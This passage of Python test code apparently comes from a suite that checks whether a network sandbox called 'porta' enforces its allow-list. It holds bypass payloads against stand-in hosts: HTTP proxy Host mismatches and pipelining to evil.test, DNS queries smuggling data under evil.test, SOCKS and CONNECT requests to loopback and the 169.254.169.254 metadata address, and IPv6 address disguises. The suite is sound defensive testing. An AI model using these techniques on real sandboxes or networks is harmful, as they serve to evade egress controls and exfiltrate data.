        return [run_check(ctx, lab, NetCheck(n, allow("allowed.test:443"), argv=argv, evidence=ev,
                                             timeout=120))]
    return with_lab(ctx, [n], build)


@row(39, "HTTP proxy: a target that differs from Host, a second request on one connection",
     "--allow-net web.allowed.test:80")
def row39(ctx):
    a, e = "web.allowed.test", "evil.test"
    specs = [("absolute-form URI evil.test, Host web.allowed.test",
              [{"op": "proxy", "request": f"GET http://{e}/ HTTP/1.1\r\nHost: {a}\r\n\r\n"}]),
             ("absolute-form URI with userinfo web.allowed.test@evil.test",
              [{"op": "proxy", "request": f"GET http://{a}@{e}/ HTTP/1.1\r\nHost: {e}\r\n\r\n"}]),
             ("kept-alive proxy connection: second request for evil.test",
              [{"op": "proxy", "request": f"GET http://{a}/ HTTP/1.1\r\nHost: {a}\r\n\r\n"
                                         f"GET http://{e}/ HTTP/1.1\r\nHost: {e}\r\n\r\n"}]),
             ("CONNECT evil.test:80 with Host web.allowed.test",
              [{"op": "proxy", "target": f"{e}:80", "then": "raw",
                "send_hex": f"GET / HTTP/1.1\r\nHost: {e}\r\n\r\n".encode().hex()}]),
             ("transparent HTTP to evil's address with Host web.allowed.test",
              [{"op": "tcp", "host": EVIL, "port": 80, "send": f"GET / HTTP/1.1\r\nHost: {a}\r\n\r\n"}])]

    def build(lab):
        pol = allow("web.allowed.test:80")
        return [run_check(ctx, lab, NetCheck(n, pol, steps, servers_evidence("evil_http")))
                for n, steps in specs]
    return with_lab(ctx, [x[0] for x in specs], build)


def internet_snmp(lab):
    """/proc/net/snmp of the lab's internet namespace (read through a lab
    process that lives there), or None."""
    mine = os.readlink(f"/proc/{lab.pid1}/ns/net")
    for pid in lab.processes():
        try:
            if os.readlink(f"/proc/{pid}/ns/net") != mine:
                r = subprocess.run(["nsenter", "--target", str(pid), "--user", "--net",
                                    "--preserve-credentials", "cat", "/proc/net/snmp"],
                                   capture_output=True, text=True, timeout=10)
                if r.returncode == 0:
                    return r.stdout
        except (OSError, subprocess.TimeoutExpired):
            continue
    return None


@row(40, "ICMP echo to an allowed host's address in policy mode", "--allow-net allowed.test:443")
def row40(ctx):
    n = "ICMP echo to allowed.test's address"

    def build(lab):
        token = f"porta-esc-{ctx.nonce[:12]}"
        base = {}

        def before(mode):
            base[mode] = icmp_in_echos(internet_snmp(lab))

        def ev(lab_, mode, run):
            now = icmp_in_echos(internet_snmp(lab))
            if now is None or base[mode] is None:
                return False, "cannot read the lab internet's ICMP counters"
            d = now - base[mode]
            return d > 0, f"{d} echo request(s) arrived in the lab's internet"
        why = None if ctx.is_root else ("unprivileged, the control has neither a ping socket "
                                        "(ping_group_range) nor CAP_NET_RAW in the lab")
        return [run_check(ctx, lab, NetCheck(n, allow("allowed.test:443"),
                                             argv=[ctx.probe("net"), "icmp", TLS, token],
                                             evidence=ev, before=before, control_na=why))]
    return with_lab(ctx, [n], build)


@row(41, "broadcast, multicast and IPv6 link-scope sends", "--allow-net allowed.test:443")
def row41(ctx):
    specs = [("UDP to 255.255.255.255", "255.255.255.255"),
             ("UDP to the link's broadcast 192.0.2.255", "192.0.2.255"),
             ("UDP to 224.0.0.1 (all hosts)", "224.0.0.1"),
             ("UDP to ff02::1%eth0 (all nodes)", "ff02::1%eth0")]

    def build(lab):
        out = []
        for n, dst in specs:
            if ":" in dst and not lab.ipv6:
                out.append(Check(n, NA, "-", "no IPv6 in the lab"))
                continue
            steps = [{"op": "udpsend", "host": dst, "port": 5999, "send": "bcast"}]
            keys = ["udp 0.0.0.0:5999"] + (["udp [::]:5999"] if lab.ipv6 else [])
            out.append(run_check(ctx, lab, NetCheck(n, allow("allowed.test:443"), steps,
                                                    servers_evidence(*keys))))
        return out
    return with_lab(ctx, [x[0] for x in specs], build)


def wire_name(*labels):
    out = b""
    for l in labels:
        l = l.encode("latin-1") if isinstance(l, str) else l
        out += bytes([len(l)]) + l
    return (out + b"\x00").hex()


@row(42, "odd DNS questions: CHAOS class, AXFR, NUL and dots inside labels, TCP tricks",
     "--allow-net allowed.test:443")
def row42(ctx):
    names = ["CHAOS-class query for <data>.evil.test", "AXFR of allowed.test over TCP",
             "label with NUL: allowed.test\\0.<data>.evil.test", "label with a dot: '<data>.evil.test' as one label",
             "TCP: allowed.test then <data>.evil.test pipelined", "TCP: a garbage frame, then <data>.evil.test"]

    def build(lab):
        pol = allow("allowed.test:443")

        def tagged(mode):
            return tag(ctx, mode, "q42")

        def ev_tag(lab_, mode, run):
            t = tagged(mode)
            qs = [q for q in lab.queries() if t in (q["name"] or "") or q.get("malformed")]
            return bool(qs), (f"the upstream saw {[(q['name'], q['type']) for q in qs][:3]}" if qs
                              else "the upstream saw nothing of it")

        def ev_axfr(lab_, mode, run):
            qs = [q for q in lab.queries() if q["type"] not in ("A", "AAAA")]
            return bool(qs), (f"the upstream saw {[(q['name'], q['type']) for q in qs][:3]}" if qs
                              else "no AXFR reached the upstream")
        checks = []
        checks.append(run_check(ctx, lab, NetCheck(names[0], pol, lambda m: [
            {"op": "rawdns", "qname_hex": wire_name(tagged(m), "evil", "test"), "qclass": 3}], ev_tag)))
        checks.append(run_check(ctx, lab, NetCheck(names[1], pol, [
            {"op": "rawdns", "qname_hex": wire_name("allowed", "test"), "qtype": 252,
             "transport": "tcp"}], ev_axfr)))
        checks.append(run_check(ctx, lab, NetCheck(names[2], pol, lambda m: [
            {"op": "rawdns", "qname_hex": wire_name("allowed", "test\x00", tagged(m), "evil", "test")},
            {"op": "rawdns", "qname_hex": wire_name("allowed", "test\x00." + tagged(m), "evil", "test")}],
            ev_tag)))
        checks.append(run_check(ctx, lab, NetCheck(names[3], pol, lambda m: [
            {"op": "rawdns", "qname_hex": wire_name(tagged(m) + ".evil.test")},
            {"op": "rawdns", "qname_hex": wire_name(tagged(m) + ".evil", "test")}], ev_tag)))
        checks.append(run_check(ctx, lab, NetCheck(names[4], pol, lambda m: [
            {"op": "dnsmany", "names": ["allowed.test", tagged(m) + ".evil.test"]}], ev_tag)))
        checks.append(run_check(ctx, lab, NetCheck(names[5], pol, lambda m: [
            {"op": "rawdns", "qname_hex": wire_name(tagged(m), "evil", "test"), "transport": "tcp",
             "prefix_hex": "0004deadbeef"}], ev_tag)))
        return checks
    return with_lab(ctx, names, build)


@row(43, "porta's own listeners asked for the host's services",
     "--allow-net *:18080 --allow-net *:53")
def row43(ctx):
    specs = [("CONNECT 127.0.0.1:53 (the DNS port)", [{"op": "proxy", "target": "127.0.0.1:53", "then": "raw",
                                                      "send_hex": "0004deadbeef"}]),
             ("SOCKS5 IPv4 literal 127.0.0.1:53", [{"op": "socks", "target": "127.0.0.1", "atyp": "ipv4",
                                                    "port": 53, "then": "raw", "send_hex": "0004deadbeef"}]),
             (f"SOCKS5 IPv4 literal of the host's address {CLIENT}:18080",
              [{"op": "socks", "target": CLIENT, "atyp": "ipv4", "port": 18080, "then": "raw",
                "send_hex": "68690a"}]),
             ("SOCKS5 IPv6 literal ::ffff:127.0.0.1:18080",
              [{"op": "socks", "target": "::ffff:127.0.0.1", "atyp": "ipv6", "port": 18080, "then": "raw",
                "send_hex": "68690a"}])]

    def build(lab):
        pol = allow("*:18080", "*:53")
        out = []
        for n, steps in specs:
            if "::" in n and not lab.ipv6:
                out.append(Check(n, NA, "-", "no IPv6 in the lab"))
                continue
            out.append(run_check(ctx, lab, NetCheck(n, pol, steps, canary_evidence())))
        return out
    return with_lab(ctx, [x[0] for x in specs], build)


@row(44, "bind tricks (host address, SO_BINDTODEVICE, IP_TRANSPARENT) and a listener inside",
     "--allow-net allowed.test:443")
def row44(ctx):
    specs = [(f"bind {CLIENT} then connect allowed.test:22", {"bind": CLIENT}),
             ("SO_BINDTODEVICE eth0 then connect allowed.test:22", {"device": "eth0"}),
             (f"IP_TRANSPARENT, bind {CLIENT}, then connect :22", {"transparent": True, "bind": CLIENT})]
    lname = "a listener inside reached from the host's namespace"

    def build(lab):
        pol = allow("allowed.test:443")
        out = []
        for n, extra in specs:
            steps = [dict({"op": "bindconnect", "host": TLS, "port": 22, "send": "x"}, **extra)]
            why = None
            if "TRANSPARENT" in n and not ctx.is_root:
                why = "unprivileged, the control has no CAP_NET_ADMIN for IP_TRANSPARENT"
            if "BINDTODEVICE" in n and not ctx.is_root:
                why = "unprivileged, the control has no CAP_NET_RAW for SO_BINDTODEVICE"
            out.append(run_check(ctx, lab, NetCheck(n, pol, steps, servers_evidence(f"canary {TLS}:22"),
                                                    control_na=why)))
        out.append(inbound(ctx, lab, lname, pol))
        return out
    return with_lab(ctx, [x[0] for x in specs] + [lname], build)


def inbound(ctx, lab, name, pol):
    """The probe listens on 0.0.0.0:18081; from outside, the lab's client
    namespace (where porta runs) connects to 127.0.0.1 and its own address.
    Evidence: the outside connector read the listener's greeting."""
    argv = probe_argv([{"op": "listen", "port": 18081, "wait": 6}])
    connector = ("import socket,sys\n"
                 "for a in ('127.0.0.1', %r):\n"
                 "    try:\n"
                 "        s = socket.create_connection((a, 18081), timeout=2)\n"
                 "        s.settimeout(2); print(a, s.recv(64).decode().strip())\n"
                 "    except OSError as e: print(a, 'failed', e)\n" % CLIENT)
    seen = {}
    runs = {}
    for mode in ("control", "sandbox"):
        try:
            cmd = lab.command(argv, cwd=ctx.root) if mode == "control" else \
                lab.command([], cwd=ctx.root) + ctx.adapter.command(
                    dataclasses.replace(pol, mounts=[(ctx.bin, True)]), argv)
        except NotOffered as e:
            return not_offered(name, str(e))
        out = tempfile.TemporaryFile(dir=ctx.root)
        p = subprocess.Popen(cmd, stdout=out, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
                             env=ctx.env(), cwd=ctx.root, start_new_session=True)
        for _ in range(200):
            out.seek(0)
            if b"LISTENING" in out.read() or p.poll() is not None:
                break
            time.sleep(0.05)
        r = lab.run([PY, "-c", connector], timeout=20)
        seen[mode] = [l for l in r.out.splitlines() if "inside-listener" in l]
        try:
            p.wait(timeout=20)
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, signal.SIGKILL)
            p.wait()
        out.seek(0)
        text = out.read().decode(errors="replace")
        out.close()
        runs[mode] = Run(cmd, p.returncode, text, "", 0.0, False)
    s_esc = bool(seen["sandbox"])
    return judge(name, bool(seen["control"]), s_esc, runs["sandbox"],
                 f"reached from outside: {seen['sandbox']}" if s_esc else
                 f"nothing outside reached it (control: {seen['control']})")


@row(45, "CIDR rules that merely contain loopback, metadata and the host",
     "--allow-net 0.0.0.0/0:PORT, --allow-net [::/0]:PORT")
def row45(ctx):
    specs = [("0.0.0.0/0:18080 -> 127.0.0.1:18080", "0.0.0.0/0:18080", "127.0.0.1", 18080),
             (f"0.0.0.0/0:18080 -> {CLIENT}:18080 (the host's address)", "0.0.0.0/0:18080", CLIENT, 18080),
             ("0.0.0.0/0:443 -> 169.254.169.254:443 (metadata)", "0.0.0.0/0:443", "169.254.169.254", 443),
             ("0.0.0.0/1:443 -> 10.1.2.3:443 (private)", "0.0.0.0/1:443", "10.1.2.3", 443),
             ("[::/0]:18080 -> [::1]:18080", "[::/0]:18080", "::1", 18080),
             ("[::/0]:18080 -> [::ffff:127.0.0.1]:18080", "[::/0]:18080", "::ffff:127.0.0.1", 18080)]

    def build(lab):
        out = []
        for n, rule, host, port in specs:
            if host.startswith("::") and not lab.ipv6:
                out.append(Check(n, NA, "-", "no IPv6 in the lab"))
                continue
            lit = f"[{host}]" if ":" in host else host
            steps = [{"op": "tcp", "host": host, "port": port, "send": "x"},
                     {"op": "proxy", "target": f"{lit}:{port}", "then": "raw", "send_hex": "78"},
                     {"op": "socks", "target": host, "atyp": "ipv6" if ":" in host else "ipv4",
                      "port": port, "then": "raw", "send_hex": "78"}]
            out.append(run_check(ctx, lab, NetCheck(n, allow(rule), steps, canary_evidence())))
        return out
    return with_lab(ctx, [x[0] for x in specs], build)


@row(46, "IPv6 spellings that carry a denied IPv4 address (NAT64, 6to4, Teredo, compat), ULA",
     "--allow-net *.allowed.test:443")
def row46(ctx):
    names = ["nat64.allowed.test", "sixtofour.allowed.test", "teredo.allowed.test",
             "compat.allowed.test", "fc.allowed.test"]

    def build(lab):
        if not lab.ipv6:
            return na_all(names, "no IPv6 in the lab")
        out = []
        for n in names:
            steps = [{"op": "tcp", "host": n, "port": 443, "send": "\x16\x03\x01\x00"},
                     {"op": "proxy", "target": f"{n}:443", "then": "raw", "send_hex": "16030100"},
                     {"op": "socks", "target": n, "port": 443, "then": "raw", "send_hex": "16030100"}]
            out.append(run_check(ctx, lab, NetCheck(f"{n} -> {RECORDS[n]}", allow("*.allowed.test:443"),
                                                    steps, canary_evidence())))
        return out
    return with_lab(ctx, names, build)
